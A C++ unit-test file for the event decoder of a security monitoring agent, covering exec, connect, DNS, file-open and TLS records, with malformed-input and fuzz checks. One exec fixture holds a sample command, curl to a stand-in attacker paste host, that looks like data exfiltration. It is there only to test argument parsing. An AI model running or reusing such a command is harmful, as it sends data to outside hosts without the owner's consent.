#include "agent/events/decode.h"

#include <cstring>
#include <random>
#include <string>
#include <variant>
#include <vector>

#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace sluice::events {
namespace {

using ::testing::HasSubstr;

template <typename Raw>
std::vector<uint8_t> Bytes(const Raw& raw) {
  std::vector<uint8_t> out(sizeof(raw));
  std::memcpy(out.data(), &raw, sizeof(raw));
  return out;
}

sluice_event_header RawHeader(uint32_t type, uint32_t size) {
  sluice_event_header h{};
  h.type = type;
  h.size = size;
  h.ts_ns = 123456789012345ull;
  h.pid = 4242;
  h.tid = 4243;
  h.cgroup_id = 0x1122334455667788ull;
  return h;
}

EventHeader ExpectedHeader(uint32_t type) {
  return EventHeader{type, 123456789012345ull, 4242, 4243, 0x1122334455667788ull};
}

sluice_exec_event RawExec() {
  sluice_exec_event e{};
  e.hdr = RawHeader(SLUICE_EV_EXEC, sizeof(e));
  e.ppid = 1;
  e.uid = 1000;
  e.exe_ino = 987654321;
  e.exe_dev = 0x801;
  e.workload_id = 3;
  std::strcpy(e.comm, "python3");
  std::strcpy(e.filename, "/usr/bin/python3");
  return e;
}

TEST(DecodeTest, ExecRoundTrip) {
  auto decoded = Decode(Bytes(RawExec()));
  ASSERT_TRUE(decoded.ok()) << decoded.status();
  ExecEvent want;
  want.hdr = ExpectedHeader(SLUICE_EV_EXEC);
  want.ppid = 1;
  want.uid = 1000;
  want.exe_ino = 987654321;
  want.exe_dev = 0x801;
  want.workload_id = 3;
  want.comm = "python3";
  want.filename = "/usr/bin/python3";
  ASSERT_TRUE(std::holds_alternative<ExecEvent>(*decoded));
  EXPECT_EQ(std::get<ExecEvent>(*decoded), want);
}

TEST(DecodeTest, ExitRoundTrip) {
  sluice_exit_event raw{};
  raw.hdr = RawHeader(SLUICE_EV_EXIT, sizeof(raw));
  raw.exit_code = -9;
  auto decoded = Decode(Bytes(raw));
  ASSERT_TRUE(decoded.ok()) << decoded.status();
  ASSERT_TRUE(std::holds_alternative<ExitEvent>(*decoded));
  EXPECT_EQ(std::get<ExitEvent>(*decoded), (ExitEvent{ExpectedHeader(SLUICE_EV_EXIT), -9}));
}

TEST(DecodeTest, ConnectRoundTrip) {
  sluice_connect_event raw{};
  raw.hdr = RawHeader(SLUICE_EV_CONNECT, sizeof(raw));
  raw.workload_id = 7;
  raw.ret = -1;
  raw.family = SLUICE_AF_INET6;
  raw.dport = 443;
  raw.verdict = SLUICE_VERDICT_DENY;
  raw.protocol = 6;
  raw.flags = SLUICE_CONNECT_F_HAS_RESULT | SLUICE_CONNECT_F_FROM_HOOK;
  for (int i = 0; i < 16; ++i) raw.daddr[i] = static_cast<uint8_t>(0xf0 + i);
  auto decoded = Decode(Bytes(raw));
  ASSERT_TRUE(decoded.ok()) << decoded.status();
  ASSERT_TRUE(std::holds_alternative<ConnectEvent>(*decoded));
  const auto& e = std::get<ConnectEvent>(*decoded);
  EXPECT_EQ(e.hdr, ExpectedHeader(SLUICE_EV_CONNECT));
  EXPECT_EQ(e.workload_id, 7u);
  EXPECT_EQ(e.ret, -1);
  EXPECT_EQ(e.family, SLUICE_AF_INET6);
  EXPECT_EQ(e.dport, 443);
  EXPECT_EQ(e.verdict, SLUICE_VERDICT_DENY);
  EXPECT_EQ(e.protocol, 6);
  EXPECT_EQ(e.flags, SLUICE_CONNECT_F_HAS_RESULT | SLUICE_CONNECT_F_FROM_HOOK);
  for (int i = 0; i < 16; ++i) EXPECT_EQ(e.daddr[i], 0xf0 + i) << i;
}

TEST(DecodeTest, CgroupMkdirRoundTrip) {
  sluice_cgroup_event raw{};
  raw.hdr = RawHeader(SLUICE_EV_CGROUP_MKDIR, sizeof(raw));
  std::strcpy(raw.path, "/system.slice/crm-sync.service");
  auto decoded = Decode(Bytes(raw));
  ASSERT_TRUE(decoded.ok()) << decoded.status();
  ASSERT_TRUE(std::holds_alternative<CgroupMkdirEvent>(*decoded));
  EXPECT_EQ(std::get<CgroupMkdirEvent>(*decoded),
            (CgroupMkdirEvent{ExpectedHeader(SLUICE_EV_CGROUP_MKDIR),
                              "/system.slice/crm-sync.service"}));
}

TEST(DecodeTest, StringsStopAtTheFirstNul) {
  auto raw = RawExec();
  std::memcpy(raw.filename, "/bin/sh\0garbage", 15);
  auto decoded = Decode(Bytes(raw));
  ASSERT_TRUE(decoded.ok());
  EXPECT_EQ(std::get<ExecEvent>(*decoded).filename, "/bin/sh");
}

TEST(DecodeTest, UnterminatedStringsAreBoundedByTheirField) {
  auto raw = RawExec();
  std::memset(raw.comm, 'c', sizeof(raw.comm));
  std::memset(raw.filename, 'f', sizeof(raw.filename));
  auto decoded = Decode(Bytes(raw));
  ASSERT_TRUE(decoded.ok());
  const auto& e = std::get<ExecEvent>(*decoded);
  EXPECT_EQ(e.comm, std::string(SLUICE_COMM_LEN, 'c'));
  EXPECT_EQ(e.filename, std::string(SLUICE_PATH_MAX, 'f'));

  sluice_cgroup_event cg{};
  cg.hdr = RawHeader(SLUICE_EV_CGROUP_MKDIR, sizeof(cg));
  std::memset(cg.path, 'p', sizeof(cg.path));
  auto bytes = Bytes(cg);
  bytes.push_back('X');  // trailing padding must not leak into the string
  auto decoded_cg = Decode(bytes);
  ASSERT_TRUE(decoded_cg.ok());
  EXPECT_EQ(std::get<CgroupMkdirEvent>(*decoded_cg).path, std::string(SLUICE_PATH_MAX, 'p'));
}

TEST(DecodeTest, TrailingPaddingIsAccepted) {
  sluice_exit_event raw{};
  raw.hdr = RawHeader(SLUICE_EV_EXIT, sizeof(raw));
  raw.exit_code = 3;
  auto bytes = Bytes(raw);
  bytes.resize(bytes.size() + 8, 0xaa);
  auto decoded = Decode(bytes);
  ASSERT_TRUE(decoded.ok()) << decoded.status();
  EXPECT_EQ(std::get<ExitEvent>(*decoded).exit_code, 3);
}

TEST(DecodeTest, DecodesFromAnUnalignedBuffer) {
  auto raw = Bytes(RawExec());
  std::vector<uint8_t> shifted(1, 0);
  shifted.insert(shifted.end(), raw.begin(), raw.end());
  auto decoded = Decode(absl::MakeConstSpan(shifted).subspan(1));
  ASSERT_TRUE(decoded.ok()) << decoded.status();
  EXPECT_EQ(std::get<ExecEvent>(*decoded).filename, "/usr/bin/python3");
}

TEST(DecodeTest, RejectsEmptyAndShorterThanHeader) {
  EXPECT_EQ(Decode({}).status().code(), absl::StatusCode::kInvalidArgument);
  auto bytes = Bytes(RawExec());
  bytes.resize(sizeof(sluice_event_header) - 1);
  auto decoded = Decode(bytes);
  EXPECT_EQ(decoded.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(decoded.status().message(), HasSubstr("shorter than"));
}

TEST(DecodeTest, RejectsUnknownTypesNamingTheType) {
  for (uint32_t type : {0u, static_cast<uint32_t>(SLUICE_EV_TYPE_MAX), 99u, 0xffffffffu}) {
    auto bytes = Bytes(RawHeader(type, sizeof(sluice_event_header)));
    auto decoded = Decode(bytes);
    EXPECT_EQ(decoded.status().code(), absl::StatusCode::kInvalidArgument);
    EXPECT_THAT(decoded.status().message(),
                HasSubstr("unknown event type " + std::to_string(type)));
  }
}

TEST(DecodeTest, RejectsSizeLargerThanTheRecord) {
  auto raw = RawExec();
  auto bytes = Bytes(raw);
  bytes.pop_back();  // header still says 328
  auto decoded = Decode(bytes);
  EXPECT_EQ(decoded.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(decoded.status().message(), HasSubstr("claims"));

  raw.hdr.size = 0xffffffffu;
  EXPECT_EQ(Decode(Bytes(raw)).status().code(), absl::StatusCode::kInvalidArgument);
}

TEST(DecodeTest, RejectsSizeOtherThanTheStructSize) {
  // Smaller than the struct: the record is long enough but the header disagrees.
  auto raw = RawExec();
  raw.hdr.size = sizeof(sluice_event_header);
  auto decoded = Decode(Bytes(raw));
  EXPECT_EQ(decoded.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(decoded.status().message(), HasSubstr("expected " + std::to_string(sizeof(sluice_exec_event))));

  // Larger than the struct (another ABI version), record long enough to hold it.
  sluice_exit_event exit_raw{};
  exit_raw.hdr = RawHeader(SLUICE_EV_EXIT, sizeof(exit_raw) + 8);
  auto bytes = Bytes(exit_raw);
  bytes.resize(bytes.size() + 8);
  EXPECT_EQ(Decode(bytes).status().code(), absl::StatusCode::kInvalidArgument);

  // A connect header on an exit-sized record.
  sluice_exit_event wrong{};
  wrong.hdr = RawHeader(SLUICE_EV_CONNECT, sizeof(wrong));
  EXPECT_EQ(Decode(Bytes(wrong)).status().code(), absl::StatusCode::kInvalidArgument);
}

TEST(DecodeTest, EveryTruncationOfAValidRecordIsRejected) {
  std::vector<std::vector<uint8_t>> records = {Bytes(RawExec())};
  sluice_cgroup_event cg{};
  cg.hdr = RawHeader(SLUICE_EV_CGROUP_MKDIR, sizeof(cg));
  records.push_back(Bytes(cg));
  sluice_connect_event c{};
  c.hdr = RawHeader(SLUICE_EV_CONNECT, sizeof(c));
  records.push_back(Bytes(c));
  for (const auto& full : records) {
    for (size_t n = 0; n < full.size(); ++n) {
      // A copy of exactly n bytes, so that a read past the end is visible to sanitizers.
      std::vector<uint8_t> cut(full.begin(), full.begin() + n);
      EXPECT_FALSE(Decode(cut).ok()) << n;
    }
    EXPECT_TRUE(Decode(full).ok());
  }
}

TEST(DecodeTest, RandomBytesNeverCrash) {
  std::mt19937_64 rng(0x5eed);
  const std::vector<size_t> kSizes = {sizeof(sluice_exec_event), sizeof(sluice_exit_event),
                                      sizeof(sluice_connect_event), sizeof(sluice_cgroup_event)};
  size_t accepted = 0;
  for (int i = 0; i < 100000; ++i) {
    std::vector<uint8_t> buf(rng() % 400);
    for (auto& b : buf) b = static_cast<uint8_t>(rng());
    // Most random headers are rejected at once; make half of them plausible so that the
    // per-type decoders and string copies run on garbage too.
    if (buf.size() >= sizeof(sluice_event_header) && (i & 1)) {
      uint32_t type = 1 + static_cast<uint32_t>(rng() % 4);
      uint32_t size = (rng() % 4 == 0) ? static_cast<uint32_t>(rng() % 400)
                                       : static_cast<uint32_t>(kSizes[type - 1]);
      std::memcpy(buf.data(), &type, 4);
      std::memcpy(buf.data() + 4, &size, 4);
    }
    auto decoded = Decode(buf);
    if (decoded.ok()) {
      ++accepted;
      std::visit([&](const auto& e) { EXPECT_LE(e.hdr.type, 4u); }, *decoded);
    } else {
      EXPECT_EQ(decoded.status().code(), absl::StatusCode::kInvalidArgument);
    }
  }
  EXPECT_GT(accepted, 0u);  // the generator does reach the per-type decoders
}

TEST(DecodeTest, ExecCarriesArgvPrefix) {
  auto raw = RawExec();
  const char args[] = "curl\0-sS\0https://paste.evil.test/up";
  std::memcpy(raw.args, args, sizeof(args) - 1);
  raw.args_len = sizeof(args) - 1;
  raw.args_total = 200;
  auto decoded = Decode(Bytes(raw));
  ASSERT_TRUE(decoded.ok()) << decoded.status();
  const auto& e = std::get<ExecEvent>(*decoded);
  EXPECT_THAT(e.argv, ::testing::ElementsAre("curl", "-sS", "https://paste.evil.test/up"));
  EXPECT_TRUE(e.argv_truncated);
}

TEST(DecodeTest, ExecArgsLenBeyondTheFieldIsBounded) {
  auto raw = RawExec();
  std::memset(raw.args, 'a', sizeof(raw.args));
  raw.args_len = 0xffffffffu;
  auto decoded = Decode(Bytes(raw));
  ASSERT_TRUE(decoded.ok());
  const auto& e = std::get<ExecEvent>(*decoded);
  ASSERT_EQ(e.argv.size(), 1u);
  EXPECT_EQ(e.argv[0].size(), sizeof(raw.args));
}

TEST(DecodeTest, FlowEvent) {
  sluice_flow_event raw{};
  raw.hdr = RawHeader(SLUICE_EV_FLOW, sizeof(raw));
  raw.cookie = 99;
  raw.kind = SLUICE_FLOW_CLOSED;
  raw.flow.bytes_out = 12345;
  raw.flow.bytes_in = 678;
  raw.flow.dport = 443;
  raw.flow.protocol = 6;
  raw.flow.flags = SLUICE_FLOW_F_CLOSED;
  raw.flow.daddr[15] = 9;
  auto decoded = Decode(Bytes(raw));
  ASSERT_TRUE(decoded.ok()) << decoded.status();
  const auto& e = std::get<FlowEvent>(*decoded);
  EXPECT_EQ(e.cookie, 99u);
  EXPECT_EQ(e.kind, static_cast<uint32_t>(SLUICE_FLOW_CLOSED));
  EXPECT_EQ(e.flow.bytes_out, 12345u);
  EXPECT_EQ(e.flow.bytes_in, 678u);
  EXPECT_EQ(e.flow.dport, 443);
  EXPECT_EQ(e.flow.daddr[15], 9);
}

TEST(DecodeTest, DnsPayloadIsBoundedByTheField) {
  sluice_dns_event raw{};
  raw.hdr = RawHeader(SLUICE_EV_DNS, sizeof(raw));
  raw.len = 0xffff;  // corrupt: more than the payload field
  auto decoded = Decode(Bytes(raw));
  ASSERT_TRUE(decoded.ok());
  EXPECT_EQ(std::get<DnsEvent>(*decoded).payload.size(), sizeof(raw.payload));
}

TEST(DecodeTest, FileOpenEvent) {
  sluice_file_open_event raw{};
  raw.hdr = RawHeader(SLUICE_EV_FILE_OPEN, sizeof(raw));
  raw.ino = 77;
  raw.dev = 2049;
  raw.fd = 3;
  raw.class_id = 2;
  raw.matched_by = SLUICE_FILE_MATCH_INODE;
  std::strcpy(raw.path, "/var/cache/llm/kv.bin");
  auto decoded = Decode(Bytes(raw));
  ASSERT_TRUE(decoded.ok());
  const auto& e = std::get<FileOpenEvent>(*decoded);
  EXPECT_EQ(e.path, "/var/cache/llm/kv.bin");
  EXPECT_EQ(e.ino, 77u);
  EXPECT_EQ(e.matched_by, static_cast<uint32_t>(SLUICE_FILE_MATCH_INODE));
}

TEST(DecodeTest, TlsRecordIsVariableSized) {
  std::vector<uint8_t> rec(SLUICE_TLS_EVENT_HEADER_SIZE + 5);
  sluice_tls_event head{};
  head.hdr = RawHeader(SLUICE_EV_TLS, static_cast<uint32_t>(rec.size()));
  head.captured = 5;
  head.len = 1000;
  head.direction = SLUICE_TLS_DIR_WRITE;
  std::memcpy(rec.data(), &head, SLUICE_TLS_EVENT_HEADER_SIZE);
  std::memcpy(rec.data() + SLUICE_TLS_EVENT_HEADER_SIZE, "GET /", 5);
  auto decoded = Decode(rec);
  ASSERT_TRUE(decoded.ok()) << decoded.status();
  const auto& e = std::get<TlsEvent>(*decoded);
  EXPECT_EQ(e.len, 1000u);
  EXPECT_EQ(std::string(e.data.begin(), e.data.end()), "GET /");

  // A captured count that disagrees with the record size is rejected.
  head.captured = 4000;
  std::memcpy(rec.data(), &head, SLUICE_TLS_EVENT_HEADER_SIZE);
  EXPECT_FALSE(Decode(rec).ok());
  // Shorter than the fixed part.
  head.hdr.size = 40;
  std::memcpy(rec.data(), &head, SLUICE_TLS_EVENT_HEADER_SIZE);
  EXPECT_FALSE(Decode(rec).ok());
}

}  // namespace
}  // namespace sluice::events
